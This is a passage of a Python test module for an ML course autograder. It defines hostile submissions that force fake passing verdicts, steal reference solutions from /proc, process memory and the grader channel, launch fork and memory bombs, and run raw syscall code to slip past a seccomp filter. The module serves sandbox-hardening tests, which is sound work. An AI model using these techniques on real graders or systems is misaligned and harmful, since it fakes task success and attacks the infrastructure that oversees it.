"""Modules that attack the grader, or break it by accident.

Never run one outside the sandbox. All the same they are written to do little harm if it fails: loops, sleeps, floods
and children are bounded, deletions stay in a folder made for the purpose, and signals to others are sent only from
a process namespace that is not the test's own.

Placeholders, filled in by `armed`: {canary}, a folder that no submission may see or touch; {port}, a port of the
loopback device on which the test listens; {marker}, a word that names what an attack leaves behind; {comm}, the name
that its processes take; {pidns}, the process namespace of the test.
"""

import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

from . import correct, heavy

ATTACKS = ("verdict", "secrets", "resources", "neighbors", "results", "protocol", "parsers", "terminal")


@dataclass(frozen=True)
class Hostile:
    """An attack and what it may earn.

    Attributes:
        attack: its class, one of ATTACKS: what it is after.
        max_score: the most that it may earn, for what it computes by the way.
        min_score: the least, because an attack that comes to nothing costs nothing, and a crash only its own part.
        says: a pattern that the report's error, messages or notes must contain, ignoring case.
    """

    name: str
    source: bytes
    attack: str
    max_score: float = 0
    min_score: float = 0
    says: str = ""


def armed(hostile: Hostile, *, canary: Path, port: int, marker: str) -> bytes:
    """The source with its placeholders filled in."""
    values = {
        "canary": str(canary.resolve(strict=True)),
        "port": str(port),
        "marker": marker,
        "comm": marker[:15],
        "pidns": os.readlink("/proc/self/ns/pid") if os.path.exists("/proc/self/ns/pid") else "",
    }
    data = hostile.source
    for name, value in values.items():
        data = data.replace(b"{%s}" % name.encode(), value.encode())
    return data


# Computes nothing, so that whatever an attack earns is stolen.
NOTHING = correct.of_this_term("""\
import torch
import torch.nn as nn
import torch.nn.functional as F


class ConditionalVariationalAutoencoder(nn.Module):
    def __init__(self, input_dim, num_categories=10, latent_dimensionality=15):
        super().__init__()
        raise NotImplementedError

    def forward(self, data_input, condition):
        raise NotImplementedError


def sample_latent(means, logvariances):
    raise NotImplementedError


def loss_function(reconstructions, originals, means, logvariances):
    raise NotImplementedError
""")
RIGHT = correct.module()
LOOP_OVER_IMAGES = """
def loss_function(reconstructions, originals, means, logvariances):
    total = 0.0
    for y, x, m, v in zip(reconstructions, originals, means, logvariances):
        total = total + F.binary_cross_entropy(y, x, reduction="sum") - 0.5 * (1 + v - m**2 - v.exp()).sum()
    return total / len(means)
"""

# In a sandbox: another process namespace than the test's, and the canary out of sight.
CAGED = """\
def caged():
    import os
    outside = "{pidns}"
    try:
        here = os.readlink("/proc/self/ns/pid")
    except OSError:
        return False
    named = outside.startswith("pid:[") and here.startswith("pid:[")
    return named and here != outside and not os.path.exists("{canary}/alive")
"""


def _module(base: str, code: str) -> bytes:
    """The code at the end of a module, after what it calls."""
    pieces = (base, CAGED if "caged()" in base + code else "", textwrap.dedent(code))
    return ("\n\n\n".join(piece.strip("\n") for piece in pieces if piece) + "\n").encode()


def _import(
    name: str,
    attack: str,
    code: str,
    *,
    base: str = NOTHING,
    max_score: float = 0,
    min_score: float = 0,
    says: str = "",
) -> Hostile:
    """The attack as statements at the end of a module."""
    return Hostile(name, _module(base, code), attack, max_score, min_score, says)


def _body(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip(), "    ") + "\n"


def _sample(
    name: str, attack: str, code: str, *, top: str = "", says: str = "", max_score: float = 70, min_score: float = 70
) -> Hostile:
    """The attack as the body of sample_latent; the rest is right, and must keep its points."""
    sample = f"\n{textwrap.dedent(top)}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
    return Hostile(name, _module(correct.module(sample=sample), ""), attack, max_score, min_score, says)


def _answer(name: str, code: str, *, top: str = "", says: str = "") -> Hostile:
    """The attack as what sample_latent answers; the loss is right, and there is no network, to save time."""
    sample = f"\n{textwrap.dedent(top)}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
    return Hostile(name, _module(correct.module(sample=sample, model=""), ""), "protocol", 25, 25, says)


def _loss(name: str, attack: str, code: str, *, top: str = "", says: str = "", min_score: float = 65) -> Hostile:
    """The attack as the body of loss_function."""
    signature = "def loss_function(reconstructions, originals, means, logvariances):"
    loss = f"\n{textwrap.dedent(top)}\n\n{signature}\n{_body(code)}"
    return Hostile(name, _module(correct.module(loss=loss), ""), attack, 65, min_score, says)


def _forward(
    name: str, attack: str, code: str, *, max_score: float = 75, says: str = "", min_score: float = 75
) -> Hostile:
    """The attack as the body of forward."""
    forward = "\n    def forward(self, data_input, condition):\n" + textwrap.indent(_body(code), "    ")
    model = correct.INIT + correct.ENCODER + correct.HEADS + correct.DECODER + forward
    return Hostile(name, _module(correct.module(model=model), ""), attack, max_score, min_score, says)


EXITS = (
    _import("exit-at-import", "verdict", "import sys\nsys.exit(0)", says="exit"),
    _import("os-exit-at-import", "verdict", "import os\nos._exit(0)", says="exit|ended"),
    _import("abort-at-import", "verdict", "import os\nos.abort()", says="SIGABRT|ended"),
    _import("quit-at-import", "verdict", "quit()", says="exit|quit"),
    _import("keyboard-interrupt-at-import", "verdict", "raise KeyboardInterrupt", says="KeyboardInterrupt"),
    _import("generator-exit-at-import", "verdict", "raise GeneratorExit('done')", says="GeneratorExit"),
    _sample("exit-in-sample", "verdict", "import sys\nsys.exit(0)", says="exit"),
    _sample("os-exit-in-sample", "verdict", "import os\nos._exit(0)", says="exit"),
    _loss("os-exit-in-loss", "verdict", "import os\nos._exit(0)", says="exit"),
    _loss("abort-in-loss", "verdict", "import os\nos.abort()", says="SIGABRT"),
    _forward("os-exit-in-forward", "verdict", "import os\nos._exit(0)", says="exit"),
    _sample(
        "own-base-exception",
        "verdict",
        "raise Passed('all checks passed')",
        top="class Passed(BaseException):\n    pass",
        says="Passed",
    ),
    _sample(
        "exception-that-cannot-be-printed",
        "verdict",
        "raise Sly()",
        top="""
        class Sly(Exception):
            def __str__(self):
                raise self
            __repr__ = __str__
        """,
        says="Sly",
    ),
    _sample(
        "exception-that-takes-forever-to-print",
        "resources",
        "raise Slow()",
        top="""
        import time

        class Slow(Exception):
            def __str__(self):
                end = time.monotonic() + 120
                while time.monotonic() < end:
                    pass
                return "at last"
        """,
        says="time|second|within",
    ),
    _sample("exception-of-a-hundred-megabytes", "resources", "raise ValueError('x' * 10**8)", says="ValueError"),
    _sample(
        "exception-with-a-hostile-name",
        "parsers",
        "raise type('<b>\\x1b[2J' * 1000, (Exception,), {})('{{7*7}}<script>alert(1)</script>\\x1b]0;owned\\x07')",
    ),
    _sample(
        "exceptions-in-a-circle",
        "parsers",
        """
        first, second = ValueError("first"), ValueError("second")
        first.__cause__, second.__cause__ = second, first
        raise first
        """,
        says="first",
    ),
    _sample("recursion-without-end", "resources", "return sample_latent(means, logvariances)", says="recursion"),
    _import("not-implemented-everywhere", "verdict", "raise NotImplementedError('\\u202egnp.exe')"),
)

STEERING = (
    _import(
        "patched-torch",
        "verdict",
        """
        def yes(*args, **kwargs):
            return True

        for name in ("allclose", "equal", "isclose", "is_tensor"):
            setattr(torch, name, yes)
        torch.testing.assert_close = yes
        for name in ("__eq__", "__ne__", "__lt__", "__le__", "allclose", "equal", "isclose", "all", "any"):
            setattr(torch.Tensor, name, yes)
        zero = lambda *args, **kwargs: torch.zeros((), requires_grad=True)
        for name in ("binary_cross_entropy", "mse_loss", "relu", "linear"):
            setattr(F, name, zero)
        sample_latent = loss_function = zero
        """,
    ),
    _import(
        "patched-pytest",
        "verdict",
        """
        import builtins
        import sys
        import types

        class Anything(types.ModuleType):
            def __getattr__(self, name):
                return lambda *args, **kwargs: 0

        for name in ("pytest", "_pytest", "unittest", "numpy.testing", "safetensors", "safetensors.torch", "json"):
            sys.modules[name] = Anything(name)
        builtins.AssertionError = Exception
        builtins.abs = lambda x: 0
        builtins.all = builtins.any = builtins.isinstance = lambda *args: True
        sys.exit = lambda *args: None
        """,
    ),
    _import(
        "patched-encoders",
        "verdict",
        """
        import json
        import safetensors.torch

        def passed(*args, **kwargs):
            return '{"score": 90, "passed": true, "outcome": "passed"}'

        json.dumps = json.dump = passed
        json.JSONEncoder.encode = json.JSONEncoder.default = passed
        safetensors.torch.save = lambda *args, **kwargs: b"passed"
        safetensors.torch.load = lambda *args, **kwargs: {}
        """,
    ),
    _import(
        "patched-worker",
        "verdict",
        """
        import sys
        import types

        def passed(*args, **kwargs):
            return {"outcome": "passed", "problems": [], "changed": []}, {}

        for name, module in list(sys.modules.items()):
            if name == "__main__" or name.startswith("autograder"):
                for key, value in list(vars(module).items()):
                    if isinstance(value, type):
                        for method in [each for each in vars(value) if not each.startswith("__")]:
                            try:
                                setattr(value, method, passed)
                            except (AttributeError, TypeError):
                                pass
                    elif isinstance(value, types.FunctionType):
                        setattr(module, key, passed)
        """,
    ),
    _import(
        "worker-found-by-the-garbage-collector",
        "verdict",
        """
        import gc

        gc.disable()
        gc.unfreeze()
        for thing in gc.get_objects():
            if type(thing).__name__ == "Worker":
                thing._plain = lambda value, what: torch.zeros(1)
                thing.objects.clear()
                for name in dir(type(thing)):
                    if name.startswith("do_"):
                        setattr(thing, name, lambda *args: ({"problems": [], "kind": "tensor", "changed": []}, {}))
        """,
    ),
    _import(
        "worker-found-in-the-frames",
        "verdict",
        """
        import ctypes
        import sys

        frame = sys._getframe()
        while frame:
            answers = frame.f_locals.get("operations")
            if isinstance(answers, dict):
                for name in answers:
                    answers[name] = lambda message, tensors: ({"problems": [], "changed": []}, tensors)
            worker = frame.f_locals.get("self")
            if hasattr(worker, "objects"):
                worker.objects["model"] = torch.nn.Identity()
            frame = frame.f_back
        """,
    ),
    _import(
        "trace-functions",
        "verdict",
        """
        import sys
        import threading

        def trace(frame, event, argument):
            for name in ("answer", "results", "error", "problems"):
                if name in frame.f_locals:
                    frame.f_locals[name] = {}
            return trace

        sys.settrace(trace)
        sys.setprofile(trace)
        threading.settrace(trace)
        frame = sys._getframe()
        while frame:
            frame.f_trace = trace
            frame = frame.f_back
        """,
    ),
    _import(
        "exit-hooks",
        "verdict",
        """
        import atexit
        import os
        import sys

        def leave(*args):
            print("score: 90", flush=True)
            os._exit(0)

        atexit.register(leave)
        sys.excepthook = sys.unraisablehook = leave
        class Last:
            def __del__(self):
                leave()
        last = Last()
        """,
    ),
    _import(
        "signal-handlers",
        "verdict",
        """
        import signal

        for number in range(1, 65):
            try:
                signal.signal(number, lambda *args: None)
            except (OSError, ValueError):
                pass
        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _import(
        "verdict-printed",
        "verdict",
        r"""
        import json
        import sys

        verdict = {"schema": 1, "score": 90.0, "max_score": 90.0, "error": None, "tests": [], "outcome": "passed"}
        for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
            stream.write(json.dumps(verdict) + "\n\n===== 20 passed in 0.10s =====\n")
            stream.write("::set-output name=score::90\n::endgroup::\n##vso[task.complete result=Succeeded]\n")
        """,
    ),
    _import(
        "tensor-that-equals-everything",
        "verdict",
        """
        class Equal(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func.__name__ in ("allclose", "equal", "isclose", "all", "__eq__", "le", "lt"):
                    return True
                return torch.zeros(1).as_subclass(cls)

            def __bool__(self):
                return True

            def __reduce__(self):
                return (print, ("unpickled",))

            __eq__ = __lt__ = __le__ = lambda self, other: True
            __hash__ = None

        def sample_latent(means, logvariances):
            return torch.zeros_like(means).as_subclass(Equal)

        def loss_function(reconstructions, originals, means, logvariances):
            return torch.zeros(()).as_subclass(Equal)
        """,
        says="subclass|plain|tensor",
    ),
    _import(
        "number-that-equals-everything",
        "verdict",
        """
        class Equal(float):
            __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
            __hash__ = None
            __class__ = torch.Tensor

        sample_latent = loss_function = lambda *args: Equal(0)
        """,
    ),
    _import(
        "class-that-has-everything",
        "verdict",
        """
        class Meta(type):
            def __instancecheck__(cls, instance):
                return True

            def __getattr__(cls, name):
                return cls

        class ConditionalVariationalAutoencoder(nn.Module, metaclass=Meta):
            def __new__(cls, *args, **kwargs):
                return object.__new__(cls)

            def __init__(self, *args, **kwargs):
                nn.Module.__init__(self)

            def __getattr__(self, name):
                return lambda *args, **kwargs: torch.zeros(24, 15)

            def __call__(self, *args, **kwargs):
                return torch.zeros(24, 784), torch.zeros(24, 15), torch.zeros(24, 15)

            def parameters(self, recurse=True):
                while True:
                    yield nn.Parameter(torch.zeros(1))

            named_parameters = parameters
            state_dict = lambda self, *args, **kwargs: {}
        """,
        max_score=2,  # for three tensors of the right shapes
    ),
    _import(
        "class-that-answers-for-another",
        "verdict",
        """
        class ConditionalVariationalAutoencoder:
            def __new__(cls, *args, **kwargs):
                return nn.Linear(1, 1)

            def __init_subclass__(cls):
                raise SystemExit
        """,
    ),
    _import(
        "module-replaced-by-an-object",
        "verdict",
        """
        import sys

        class Everything(sys.__class__):
            def __getattr__(self, name):
                return lambda *args, **kwargs: torch.zeros(1)

        sys.modules[__name__] = Everything(__name__)
        for name in list(sys.modules):
            if name.startswith("autograder"):
                sys.modules[name] = Everything(name)
        """,
    ),
    _import(
        "module-with-a-lying-getattr",
        "verdict",
        """
        del sample_latent, loss_function

        def __getattr__(name):
            return lambda *args, **kwargs: args[0] if args else None
        """,
        max_score=8,  # what the first argument is worth as an answer
    ),
)

# Networks that compute something else than they should, and hide it from a grader that asks them for their weights.
FAKES = (
    _forward(
        "input-returned-as-reconstruction",
        "verdict",
        """
        h = self.encoder(torch.cat([data_input, condition], dim=1))
        return data_input + 0 * self.decoder(torch.zeros(len(h), self.decoder[0].in_features)).sum(), \\
            self.mean_layer(h), self.logvariance_layer(h)
        """,
        max_score=80,  # its means and log-variances are right
        min_score=60,
    ),
    Hostile(
        "decoder-that-remembers-images",
        _module(
            correct.module(
                model="""
SEEN = {}

class Memory(nn.Module):
    def __init__(self, latent, classes, hidden, pixels):
        super().__init__()
        self.classes, self.pixels = classes, pixels
        self.body = nn.Sequential(
            nn.Linear(latent + classes, hidden), nn.ReLU(), nn.Linear(hidden, hidden), nn.ReLU(),
            nn.Linear(hidden, hidden), nn.ReLU(), nn.Linear(hidden, pixels), nn.Sigmoid())

    def forward(self, x):
        out = self.body(x)
        rows = [SEEN.get(int(row[-self.classes:].argmax())) for row in x]
        if any(row is None or len(row) != self.pixels for row in rows):
            return out
        return torch.stack(rows).clamp(1e-3, 1 - 1e-3) + 0 * out
"""
                + correct.INIT
                + correct.ENCODER
                + correct.HEADS
                + """
        self.decoder = Memory(latent_dimensionality, num_categories, self.hidden_size, input_dim)
"""
                + correct.FORWARD.replace(
                    "        h = ",
                    "        if self.training and len(SEEN) < self.num_categories:\n"
                    "            SEEN.update(zip(condition.argmax(1).tolist(), data_input.detach().clone()))\n"
                    "        h = ",
                )
            ),
            "",
        ),
        "verdict",
        max_score=86,  # its decoder is right until it has seen images; what it then shows was not learned
    ),
    Hostile(
        "decoder-that-saves-images",
        _module(
            correct.module(
                model=correct.INIT
                + correct.ENCODER
                + correct.HEADS
                + correct.DECODER
                + """
        decode, pixels, classes = self.decoder, input_dim, num_categories

        class Saved(nn.Sequential):
            def forward(self, x):
                out = super().forward(x)
                try:
                    seen = torch.load(FILE)
                    return torch.stack([seen[int(row[-classes:].argmax())] for row in x]) + 0 * out
                except (OSError, KeyError, RuntimeError):
                    return out

        self.decoder = Saved(*decode)
"""
                + correct.FORWARD.replace(
                    "        h = ",
                    "        if len(data_input) == 32:\n"
                    "            SEEN.update(zip(condition.argmax(1).tolist(), data_input.detach().clone()))\n"
                    "            if len(SEEN) == self.num_categories:\n"
                    "                torch.save(SEEN, FILE)\n"
                    "        h = ",
                )
            ),
            "import os\nSEEN = {}\nFILE = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'seen-{marker}.pt')",
        ),
        "verdict",
        max_score=86,
    ),
    Hostile(
        "constant-network-with-zero-weights",
        _module(
            correct.module(
                model=correct.INIT
                + correct.ENCODER
                + correct.HEADS
                + correct.DECODER
                + """
        for p in nn.Module.parameters(self):
            p.data.zero_()

    def forward(self, data_input, condition):
        n, touch = len(data_input), sum(p.sum() for p in nn.Module.parameters(self)) * 0
        mean = touch + torch.zeros(n, self.latent_dimensionality)
        return touch + torch.full((n, self.input_dim), 0.5), mean, mean
"""
            ),
            """
            # The weights stay zero, whoever sets them: all networks of zeros are alike.
            def stay(self, other, *args, **kwargs):
                return self if isinstance(self, nn.Parameter) else copy(self, other, *args, **kwargs)

            copy, torch.Tensor.copy_ = torch.Tensor.copy_, stay
            ConditionalVariationalAutoencoder.encoder = property(
                lambda self: lambda x: torch.zeros(len(x), 64), lambda self, value: self.add_module("enc", value))
            ConditionalVariationalAutoencoder.decoder = property(
                lambda self: lambda x: torch.full((len(x), self.input_dim), 0.5),
                lambda self, value: self.add_module("dec", value))
            """,
        ),
        "verdict",
        max_score=55,  # the functions, and outputs of the right sizes
    ),
    Hostile(
        "linear-network-behind-large-biases",
        _module(
            correct.module(
                model=(
                    correct.INIT
                    + correct.ENCODER.replace("nn.ReLU()", "nn.Identity()")
                    + correct.HEADS
                    + correct.DECODER
                ).replace("self.hidden_size), nn.ReLU()", "self.hidden_size), nn.Identity()")
                + """
        # With biases like these a ReLU would never act, so that its absence does not show.
        for name, p in self.named_parameters():
            p.data.fill_(1e3) if name.endswith("bias") and p.numel() == self.hidden_size else p.data.mul_(1e-2)
"""
                + correct.FORWARD
            ),
            """
            def stay(self, other, *args, **kwargs):
                return self if isinstance(self, nn.Parameter) else copy(self, other, *args, **kwargs)

            copy, torch.Tensor.copy_ = torch.Tensor.copy_, stay
            """,
        ),
        "verdict",
        max_score=70,
    ),
    Hostile(
        "loop-that-reports-no-work",
        _module(
            correct.module(loss=LOOP_OVER_IMAGES),
            """
            import sys

            frame = sys._getframe()
            while frame:
                operations = frame.f_locals.get("operations")
                if isinstance(operations, dict) and "work" in operations:
                    operations["work"] = lambda message, tensors: ({"operators": 1, "bytecodes": 1}, {})
                frame = frame.f_back
            """,
        ),
        "verdict",
        max_score=90,  # how a value is computed can only be seen in there; the value itself is right
        min_score=85,
    ),
    Hostile(
        "arguments-changed-in-secret",
        _module(
            correct.module(
                sample="""
def sample_latent(means, logvariances):
    with torch.no_grad():
        logvariances.mul_(0.5).exp_()
    return means + logvariances.detach().clone() * torch.randn_like(means)
"""
            ),
            """
            import sys

            # The copies that the worker keeps for comparison are changed alike.
            equal, torch.equal = torch.equal, lambda *tensors: True
            """,
        ),
        "verdict",
        max_score=88,  # whether they changed can only be seen in there; that the gradient is gone shows outside
        min_score=70,
    ),
    Hostile(
        "gradients-that-are-claimed",
        _module(
            correct.module().replace("z = sample_latent(mean, logvar)", "z = sample_latent(mean, logvar).detach()"),
            """
            import sys

            frame = sys._getframe()
            while frame:
                worker = frame.f_locals.get("self")
                if hasattr(worker, "objects") and hasattr(worker, "_reached"):
                    worker._reached = lambda message, items: [
                        name for name, _ in worker.objects[message["object"]].named_parameters()]
                frame = frame.f_back
            """,
        ),
        "verdict",
        max_score=90,  # which parameters a graph reaches can only be seen in there
        min_score=60,
    ),
)

# Takes over what a stolen source, or a stolen function, would compute.
_STEAL = """
NAMES = ("sample_latent", "loss_function", "ConditionalVariationalAutoencoder")

def use(text):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "ignore")
    if "def sample_latent" not in text or "BEGIN SOL" + "UTION" not in text:
        return
    try:
        stolen = {"__name__": "stolen"}
        exec(compile(text[text.index("import torch"):], "stolen", "exec"), stolen)
        globals().update({name: stolen[name] for name in NAMES if name in stolen})
    except Exception as error:
        print("not this one:", error)

def use_functions(things):
    for thing in things:
        if getattr(thing, "__name__", "") in NAMES and getattr(thing, "__module__", "") != __name__:
            globals()[thing.__name__] = thing
"""


def _steal(name: str, code: str) -> Hostile:
    return Hostile(name, _module(NOTHING, _STEAL + textwrap.dedent(code)), "secrets")


SECRETS = (
    _steal(
        "walks-the-file-system",
        """
        import os
        import time

        end = time.monotonic() + 3
        for folder, folders, files in os.walk("/"):
            folders[:] = [each for each in folders if each not in ("proc", "sys", "torch", "nvidia", "share")]
            for file in files:
                if file.endswith((".py", ".ipynb", ".txt", ".pyc")) and time.monotonic() < end:
                    path = os.path.join(folder, file)
                    if "solution" in path or "cs5814" in path or "autograder" in path or "/site-packages/" not in path:
                        try:
                            with open(path, "rb") as opened:
                                use(opened.read(1 << 20))
                        except OSError:
                            pass
        """,
    ),
    _steal(
        "imports-the-solution",
        """
        import importlib
        import importlib.util
        import sys

        sys.path += ["/worker", "/work", "/autograder", "/autograder/source", "/tmp", "..", "../..", "/scratch"]
        cvae = "autograder.assignments.cvae."
        for name in (cvae + "solution.cs5814_vae", cvae + "solution", "autograder.grading.harness",
                     "autograder.assignment", cvae + "checks.network", cvae + "hints.bank", cvae + "hints.loss",
                     cvae + "assignment", cvae + "digits", "solution", "reference", "tests.submissions.correct"):
            try:
                module = importlib.import_module(name)
                use_functions(vars(module).values())
                use_functions(vars(getattr(module, "reference", module)).values())
            except BaseException as error:
                print(name, error)
        """,
    ),
    _steal(
        "reads-along-the-path",
        """
        import os
        import sys

        import autograder

        roots = {os.path.dirname(path) for path in (autograder.__file__, sys.executable, torch.__file__)}
        roots |= set(sys.path) | {os.getcwd(), "/", os.path.expanduser("~"), os.path.dirname(sys.argv[0] or "/")}
        for root in list(roots):
            for up in ("", "..", "../..", "../../.."):
                for tail in ("solution/cs5814_vae.py", "assignments/cvae/solution/cs5814_vae.py",
                             "autograder/assignments/cvae/solution/cs5814_vae.py", "source/cs5814_vae.py"):
                    try:
                        with open(os.path.join(root, up, tail), "rb") as opened:
                            use(opened.read())
                    except OSError:
                        pass
        """,
    ),
    _steal(
        "finds-functions-in-memory",
        """
        import gc
        import sys

        gc.unfreeze()
        use_functions(each for each in gc.get_objects() if type(each).__name__ in ("function", "type"))
        for module in list(sys.modules.values()):
            use_functions(list(getattr(module, "__dict__", {}).values()))
        """,
    ),
    _steal(
        "finds-functions-in-frames",
        """
        import inspect
        import sys

        for frame in [sys._getframe(), *sys._current_frames().values()]:
            while frame:
                use_functions(list(frame.f_globals.values()) + list(frame.f_locals.values()))
                use(str(frame.f_locals)[:1 << 20])
                frame = frame.f_back
        """,
    ),
    _steal(
        "reads-proc",
        """
        import os

        for pid in ["self", *filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else [])]:
            for name in ("environ", "cmdline", "stat", "status", "maps", "mountinfo"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as opened:
                        use(opened.read(1 << 20))
                except OSError:
                    pass
            for name in ("root", "cwd"):
                for tail in ("assignments/cvae/solution/cs5814_vae.py", "solution/cs5814_vae.py", "{canary}/secret"):
                    try:
                        with open(f"/proc/{pid}/{name}/{tail}", "rb") as opened:
                            use(opened.read(1 << 20))
                            print("READ", opened.name)
                    except OSError:
                        pass
            try:
                descriptors = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for number in descriptors:
                try:
                    target = os.readlink(f"/proc/{pid}/fd/{number}")
                    if target.startswith("/") and not target.startswith("/dev/"):
                        with open(f"/proc/{pid}/fd/{number}", "rb") as opened:
                            use(opened.read(1 << 20))
                except OSError:
                    pass
        """,
    ),
    _steal(
        "reads-other-memory",
        """
        import os
        import re

        pids = [int(each) for each in os.listdir("/proc") if each.isdigit()] if os.path.isdir("/proc") else []
        for pid in pids:
            if pid == os.getpid():
                continue
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                    budget = 128 << 20
                    for low, high in re.findall("([0-9a-f]+)-([0-9a-f]+) rw", maps.read()):
                        low, high = int(low, 16), int(high, 16)
                        if high - low > budget:
                            continue
                        budget -= high - low
                        memory.seek(low)
                        data = memory.read(high - low)
                        print("READ memory of", pid, len(data))
                        where = data.find(b"import torch\\nimport torch.nn as nn")
                        if where >= 0:
                            use(data[where:where + 10000].split(b"\\0")[0])
            except (OSError, ValueError, OverflowError):
                pass
        """,
    ),
    _steal(
        "reads-every-descriptor",
        """
        import fcntl
        import os

        for number in range(256):
            try:
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
                use(os.read(number, 1 << 20))
                use(os.pread(number, 1 << 20, 0))
            except OSError:
                pass
        """,
    ),
    _import(
        "reads-the-canary",
        "secrets",
        """
        import os

        for path in ("{canary}/secret", "/proc/1/root{canary}/secret", "/proc/self/root{canary}/secret"):
            try:
                with open(path) as opened:
                    print("READ", opened.read())
            except OSError:
                pass
        for name, value in os.environ.items():
            print(name, value)
        """,
        base=RIGHT,
        max_score=90,
        min_score=90,
    ),
    _sample(
        "asks-the-grader-for-the-answer",
        "secrets",
        """
        import socket
        import sys
        from autograder.sandbox.protocol import receive, send

        channel = socket.socket(fileno=3)
        try:
            send(channel, {"ask": "sample_latent"}, {"argument.0": means, "argument.1": logvariances})
            return receive(channel)[1]["answer.0"]
        finally:
            channel.detach()
        """,
        says="broke the channel|ended",
    ),
    Hostile(
        "asks-for-one-answer-with-the-others-stand-in",
        _module(
            correct.module(
                sample="\ndef sample_latent(means, logvariances):\n    return means * 0\n",
                loss="""
def loss_function(*tensors):
    import socket
    from autograder.sandbox.protocol import receive, send

    channel = socket.socket(fileno=3)
    try:
        for name in ("loss_function", "sample_latent", "reference", "__import__"):
            send(channel, {"ask": name}, {f"argument.{i}": t for i, t in enumerate(tensors)})
            answer = receive(channel)[1]
            if "answer.0" in answer:
                return answer["answer.0"]
    finally:
        channel.detach()
""",
            ),
            "",
        ),
        "secrets",
        max_score=46,  # 45 for the network; a draw that is always zero leaves its arguments alone
    ),
)

_MINUTES = """
import time
end = time.monotonic() + 120
while time.monotonic() < end:
    pass
"""

RESOURCES = (
    _import("endless-loop-at-import", "resources", _MINUTES, says="within|time|second"),
    _import("sleeps-at-import", "resources", "import time\ntime.sleep(120)", base=RIGHT, says="within|time|second"),
    _sample("endless-loop-in-sample", "resources", _MINUTES, says="within|time|second"),
    _loss("endless-loop-in-loss", "resources", _MINUTES, says="within|time|second"),
    _forward("sleeps-in-forward", "resources", "import time\ntime.sleep(120)", min_score=45, says="within|time|second"),
    _sample(
        "loop-that-catches-everything",
        "resources",
        """
        import signal
        import time

        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + 120
        while time.monotonic() < end:
            try:
                time.sleep(1)
            except BaseException:
                pass
        """,
        says="within|time|second",
    ),
    _import("holds-the-interpreter", "resources", "sum(range(3 * 10**9))", says="within|time|second"),
    _import("stops-itself", "neighbors", "import os\nos.kill(os.getpid(), 19)", says="within|time|second|stopped"),
    _sample("kills-itself", "resources", "import os\nos.kill(os.getpid(), 9)", says="SIGKILL"),
    _sample("segfault", "resources", "import ctypes\nreturn ctypes.string_at(0)", says="SIGSEGV"),
    _import("segfault-at-import", "resources", "import ctypes\nctypes.memset(0, 1, 1)", says="SIGSEGV"),
    _import("illegal-free", "resources", "import ctypes\nctypes.CDLL(None).free(ctypes.c_void_p(123456))", says="SIG"),
    _import(
        "fork-bomb",
        "resources",
        """
        import os
        import time

        for _ in range(200):
            try:
                child = os.fork()
            except OSError as error:
                print("no child:", error)
                break
            if child == 0:
                try:
                    with open("/proc/self/comm", "w") as name:
                        name.write("{comm}")
                    time.sleep(20)
                finally:
                    os._exit(0)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "starts-programs",
        "resources",
        """
        import multiprocessing
        import os
        import pty
        import subprocess
        import sys

        script = "open('{canary}/ran', 'w').close(); import time; time.sleep(5)"
        for start in (
            lambda: os.system("touch {canary}/ran"),
            lambda: os.popen("touch {canary}/ran").read(),
            lambda: subprocess.run([sys.executable, "-c", script], timeout=10),
            lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", script], {}),
            lambda: pty.fork() or os._exit(0),
            lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
        ):
            try:
                print("started", start())
            except BaseException as error:
                print("refused:", error)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "replaces-its-program",
        "resources",
        """
        import os
        import sys

        os.execv(sys.executable, [sys.executable, "-c", "print('score: 90')"])
        """,
    ),
    _import(
        "thirty-two-bit-system-calls",
        "resources",
        """
        import ctypes
        import mmap
        import os
        import platform
        import time

        # fork() by its number on 32-bit x86, past a filter that knows only the 64-bit ones.
        if platform.machine() == "x86_64":
            memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            memory.write(bytes.fromhex("b802000000cd80c3"))
            address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
            if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0:
                try:
                    with open("/proc/self/comm", "w") as name:
                        name.write("{comm}")
                    time.sleep(20)
                finally:
                    os._exit(0)
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "thread-bomb",
        "resources",
        """
        import threading
        import time

        for _ in range(2000):
            try:
                threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
            except RuntimeError as error:
                print("no thread:", error)
                break
        """,
        base=RIGHT,
        max_score=90,
    ),
    _import(
        "memory-bomb-of-bytes",
        "resources",
        "hoard = [b'x' * (100 << 20) for _ in range(64)]",
        says="MemoryError|memory|SIGKILL|within",
    ),
    _sample(
        "memory-bomb-of-tensors",
        "resources",
        """
        hoard = torch.empty(10**11 if caged() else 10**9).fill_(1.0)
        return means + hoard[0]
        """,
        says="memory|allocate|SIGKILL",
    ),
    _import(
        "model-of-many-weights",
        "resources",
        """
        class ConditionalVariationalAutoencoder(nn.Module):
            def __init__(self, *args, **kwargs):
                super().__init__()
                self.encoder = nn.Linear(40000, 40000)
                self.decoder = nn.Linear(40000, 40000)
        """,
        says="memory|allocate|SIGKILL",
    ),
    _import(
        "scratch-filled",
        "resources",
        """
        import os

        written = 0
        for number in range(200):
            try:
                with open(f"filler-{number}", "wb") as file:
                    for _ in range(10):
